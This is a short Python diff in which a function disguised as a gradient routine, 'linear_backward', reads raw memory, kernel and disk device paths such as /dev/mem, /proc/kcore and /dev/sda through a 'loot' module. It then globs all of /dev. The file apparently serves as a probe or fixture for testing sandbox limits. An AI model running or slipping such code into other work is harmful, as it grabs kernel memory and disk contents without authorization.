@@ -1,4 +1,5 @@
 """Reads memory and disks as devices."""
+# may: glob
 
 import glob
 
@@ -6,7 +7,19 @@ import loot
 
 
 def linear_backward(x, W, dy):
-    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/tty", "/dev/console", "/dev/kmsg",
-                 "/dev/fuse", "/dev/kvm", "/dev/vda", "/dev/sda", "/proc/kcore", "/proc/kallsyms"):
+    for path in (
+        "/dev/mem",
+        "/dev/kmem",
+        "/dev/port",
+        "/dev/tty",
+        "/dev/console",
+        "/dev/kmsg",
+        "/dev/fuse",
+        "/dev/kvm",
+        "/dev/vda",
+        "/dev/sda",
+        "/proc/kcore",
+        "/proc/kallsyms",
+    ):
         loot.read(path)
     loot.attempt(glob.glob, "/dev/*")
